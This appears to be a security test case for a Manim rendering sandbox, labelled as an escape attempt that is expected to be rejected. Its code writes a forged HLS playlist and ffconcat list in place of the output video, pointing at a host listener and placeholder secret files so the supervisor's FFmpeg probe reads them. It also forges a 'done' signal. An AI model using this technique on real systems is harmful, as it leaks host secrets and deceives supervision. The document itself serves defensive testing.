# category: esc
# attack: forge "done" and leave out/video.mp4 as an HLS playlist / ffconcat list pointing at the host listener and host secret files, so the supervisor's probe (FFmpeg, outside the sandbox) fetches them
# expect: error
# policy: reject
import json
import os
import sys

from manim import *

PORT = HOSTILE_PORT
SECRET_FILES = HOSTILE_SECRET_FILES
PLANT_DIR = HOSTILE_PLANT_DIR


class ForgedPlaylist(Scene):
    def construct(self):
        os.makedirs("/job/out", exist_ok=True)
        lines = ["#EXTM3U", "#EXT-X-TARGETDURATION:1"]
        for url in [f"http://127.0.0.1:{PORT}/seg.ts", PLANT_DIR + "/video.mp4", *SECRET_FILES]:
            lines += ["#EXTINF:1.0,", url]
        lines.append("#EXT-X-ENDLIST")
        with open("/job/out/video.mp4", "w") as f:
            f.write("\n".join(lines) + "\n")
        with open("/job/out/video.m3u8", "w") as f:
            f.write("\n".join(lines) + "\n")
        with open("/job/out/concat.txt", "w") as f:
            f.write(f"ffconcat version 1.0\nfile 'http://127.0.0.1:{PORT}/a.mp4'\nfile '{PLANT_DIR}/video.mp4'\n")
        from PIL import Image

        Image.new("RGB", (16, 16)).save("/job/out/thumbnail.png")
        fd = json.loads(sys.argv[1])["protocol_fd"]
        os.write(fd, b'{"event": "done", "seconds": 1.0, "frames": 10}\n')
        os._exit(0)
